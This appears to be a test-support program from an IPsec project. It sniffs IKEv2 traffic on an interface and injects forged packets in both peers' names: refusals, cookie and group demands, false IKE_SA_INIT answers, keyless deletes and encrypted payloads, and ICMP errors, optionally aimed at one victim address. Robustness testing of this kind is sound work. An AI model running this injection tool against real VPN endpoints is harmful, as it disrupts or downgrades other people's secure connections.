// ike-forger INTERFACE [VICTIM] - an attacker on the path who sees every IKE message there and answers in the name of
// both ends, faster than they can: refusals, wishes for a cookie or another group, a whole false IKE_SA_INIT answer,
// deletes, sealed messages with the right numbers and no key, ICMP errors. It has no key and drops nothing. Ends with
// SIGTERM and says how many it forged. With VICTIM, an address, only what goes there is sent.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <csignal>
#include <cstdio>

#include "test/support/attacker.h"

namespace causeway::test::attacker {
namespace {

volatile std::sig_atomic_t ended = 0;

std::uint64_t be(std::span<const std::uint8_t> p, std::size_t n) {
  std::uint64_t v = 0;
  for (std::size_t i = 0; i < n; ++i) v = v << 8 | p[i];
  return v;
}

struct Seen {
  Endpoint from, to;
  std::uint64_t spi_i = 0, spi_r = 0;
  std::uint8_t exchange = 0, flags = 0;
  std::uint32_t id = 0;
  std::span<const std::uint8_t> packet;
};

// An IKEv2 message in IPv4, not one of our own forgeries (those have IPv4's identification 0 and no UDP checksum).
bool read(std::span<const std::uint8_t> p, Seen& s) {
  if (p.size() < 28 || p[0] >> 4 != 4 || p[9] != IPPROTO_UDP) return false;
  const std::size_t header = static_cast<std::size_t>(p[0] & 15) * 4;
  if (p.size() < header + 8) return false;
  const auto udp = p.subspan(header);
  s.from = {static_cast<std::uint32_t>(be(p.subspan(12), 4)), static_cast<std::uint16_t>(be(udp, 2))};
  s.to = {static_cast<std::uint32_t>(be(p.subspan(16), 4)), static_cast<std::uint16_t>(be(udp.subspan(2), 2))};
  auto ike = udp.subspan(8);
  if (s.from.port == 4500 || s.to.port == 4500) {
    if (ike.size() < 4 || be(ike, 4) != 0) return false;
    ike = ike.subspan(4);
  } else if (s.from.port != 500 && s.to.port != 500) {
    return false;
  }
  if (ike.size() < 28 || ike[17] != 0x20) return false;
  s.spi_i = be(ike, 8);
  s.spi_r = be(ike.subspan(8), 8);
  s.exchange = ike[18];
  s.flags = ike[19];
  s.id = static_cast<std::uint32_t>(be(ike.subspan(20), 4));
  s.packet = p;
  return true;
}

class Forger {
 public:
  std::vector<Octets> answer(const Seen& s) {
    out_.clear();
    const bool request = (s.flags & kResponse) == 0;
    if (s.exchange == 34 && request) on_init(s);
    if (s.spi_r != 0) on_keyed(s);
    out_.push_back(icmp_unreachable(s.to.address, s.from.address, s.packet));
    return std::move(out_);
  }

 private:
  Ike like(const Seen& s, std::uint8_t flags) const {
    Ike m;
    m.spi_i = s.spi_i;
    m.spi_r = s.spi_r;
    m.exchange = s.exchange;
    m.flags = flags;
    m.id = s.id;
    return m;
  }
  void back(const Seen& s, const Ike& m) { out_.push_back(udp_packet(s.to, s.from, m.octets())); }
  void on(const Seen& s, const Ike& m) { out_.push_back(udp_packet(s.from, s.to, m.octets())); }

  void on_init(const Seen& s) {
    for (const std::uint16_t type :
         {7, 14, 24, 5, 4}) {  // INVALID_SYNTAX, NO_PROPOSAL_CHOSEN, AUTHENTICATION_FAILED, ...
      Ike m = like(s, kResponse);
      m.payloads = {notify(type)};
      back(s, m);
    }
    Ike other_group = like(s, kResponse);
    other_group.payloads = {notify(17, {0, 20})};
    back(s, other_group);
    Ike cookie = like(s, kResponse);
    cookie.payloads = {notify(16390, random_octets(dice_, 24))};
    back(s, cookie);
    for (int i = 0; i < 2; ++i) {  // a negotiation with us in the peer's place
      Ike sa = like(s, kResponse);
      sa.spi_r = dice_.next();
      sa.payloads = {{kSa, sa_body()}, {kKe, ke_body(dice_)}, {kNonce, random_octets(dice_, 32)}};
      back(s, sa);
    }
    Ike mine = like(s, kInitiator);  // the same request with another key exchange value
    mine.payloads = {{kSa, sa_body()}, {kKe, ke_body(dice_)}, {kNonce, random_octets(dice_, 32)}};
    on(s, mine);
  }

  void on_keyed(const Seen& s) {
    for (const bool reply : {false, true}) {
      for (const std::uint8_t exchange : {s.exchange, std::uint8_t{37}}) {
        for (const std::uint32_t id : {s.id, s.id + 1}) forge(s, exchange, id, reply);
      }
    }
  }

  // In the name of each end, without a key.
  void forge(const Seen& s, std::uint8_t exchange, std::uint32_t id, bool reply) {
    const std::uint8_t role = s.flags & kInitiator;
    for (const bool backwards : {false, true}) {
      const auto flags = static_cast<std::uint8_t>((backwards ? role ^ kInitiator : role) | (reply ? kResponse : 0));
      const auto send = [&](std::vector<Ike::Payload> payloads) {
        Ike m = like(s, flags);
        m.exchange = exchange;
        m.id = id;
        m.payloads = std::move(payloads);
        backwards ? back(s, m) : on(s, m);
      };
      send({notify(24)});
      send({{kDelete, {1, 0, 0, 0}}});
      send({{kSk, random_octets(dice_, 60)}});
      Octets piece{0, 1, 0, 2};
      const Octets rest = random_octets(dice_, 60);
      piece.insert(piece.end(), rest.begin(), rest.end());
      send({{kSkf, piece}});
    }
  }

  Dice dice_;
  std::vector<Octets> out_;
};

int run(int argc, char** argv) {
  if (argc != 2 && argc != 3) {
    std::fprintf(stderr, "usage: ike-forger INTERFACE [VICTIM]\n");
    return 2;
  }
  struct sigaction action {};
  action.sa_handler = [](int) { ended = 1; };
  sigaction(SIGTERM, &action, nullptr);
  sigaction(SIGINT, &action, nullptr);
  const int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
  sockaddr_ll where{};
  where.sll_family = AF_PACKET;
  where.sll_protocol = htons(ETH_P_IP);
  where.sll_ifindex = static_cast<int>(if_nametoindex(argv[1]));
  if (fd < 0 || bind(fd, reinterpret_cast<sockaddr*>(&where), sizeof where) != 0) {
    std::perror("a packet socket");
    return 1;
  }
  const std::uint32_t victim = argc == 3 ? address(argv[2]) : 0;
  RawSender sender;
  Forger forger;
  std::uint64_t seen = 0, forged = 0;
  std::puts("listening");
  std::fflush(stdout);
  while (ended == 0) {
    std::uint8_t buffer[65536];
    sockaddr_ll from{};
    socklen_t size = sizeof from;
    const ssize_t n = recvfrom(fd, buffer, sizeof buffer, 0, reinterpret_cast<sockaddr*>(&from), &size);
    if (n <= 0 || from.sll_pkttype == PACKET_OUTGOING) continue;  // our own, and what is only passed on
    Seen s;
    if (!read({buffer, static_cast<std::size_t>(n)}, s)) continue;
    ++seen;
    auto packets = forger.answer(s);
    if (argc == 3) std::erase_if(packets, [&](const Octets& p) { return be(std::span(p).subspan(16), 4) != victim; });
    for (std::size_t i = 0; i < packets.size(); i += 64) {
      forged += sender.send(std::span(packets).subspan(i, std::min<std::size_t>(64, packets.size() - i)));
    }
  }
  std::printf("saw %llu IKE messages, forged %llu\n", static_cast<unsigned long long>(seen),
              static_cast<unsigned long long>(forged));
  close(fd);
  return 0;
}

}  // namespace
}  // namespace causeway::test::attacker

int main(int argc, char** argv) { return causeway::test::attacker::run(argc, argv); }
